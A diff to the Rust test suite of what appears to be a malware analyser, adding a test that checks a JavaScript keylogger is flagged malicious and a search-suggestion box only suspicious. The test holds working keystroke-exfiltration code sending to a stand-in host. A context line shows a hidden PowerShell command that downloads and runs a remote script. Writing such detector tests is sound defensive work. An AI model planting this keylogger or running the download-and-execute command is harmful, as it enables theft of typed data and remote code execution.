@@ -496,3 +496,39 @@ self.close();
         "powershell -w hidden -c iwr http://198.51.100.7/p.ps1 | iex"
     );
 }
+
+/// The user types a whole card number, key by key: a keylogger that sends keys in batches is
+/// seen sending them, and is malicious; a search box that asks another site for suggestions as
+/// the user types into it is only suspicious.
+#[test]
+fn a_keylogger_that_sends_keys_in_batches_is_malicious_and_a_search_box_is_not() {
+    let dir = tempfile::tempdir().unwrap();
+    let verdict = |name: &str, code: &str| -> (String, Vec<String>) {
+        let path = dir.path().join(name);
+        std::fs::write(&path, code).unwrap();
+        let o = airlock(&["analyze", "--json", path.to_str().unwrap()]);
+        let r = &reports(&o)[0]["verdict"];
+        let fired = r["reasons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|x| x["rule"].as_str().unwrap().to_string())
+            .collect();
+        (r["verdict"].as_str().unwrap().to_string(), fired)
+    };
+    let (v, fired) = verdict(
+        "keys.js",
+        "var buf = ''; document.addEventListener('keydown', function (e) { buf += e.key;
+           if (buf.length > 5) { new Image().src = 'https://k.example/l?d=' + buf; buf = ''; } });",
+    );
+    assert_eq!(v, "malicious", "{fired:?}");
+    assert!(fired.contains(&"exfil.keylogger".to_string()), "{fired:?}");
+    let (v, fired) = verdict(
+        "search.js",
+        "var q = document.createElement('input'); document.body.appendChild(q);
+         q.addEventListener('input', function (e) {
+           fetch('https://suggest.example/q?s=' + encodeURIComponent(q.value + e.data)); });",
+    );
+    assert_eq!(v, "suspicious", "{fired:?}");
+    assert!(!fired.contains(&"exfil.keylogger".to_string()), "{fired:?}");
+}
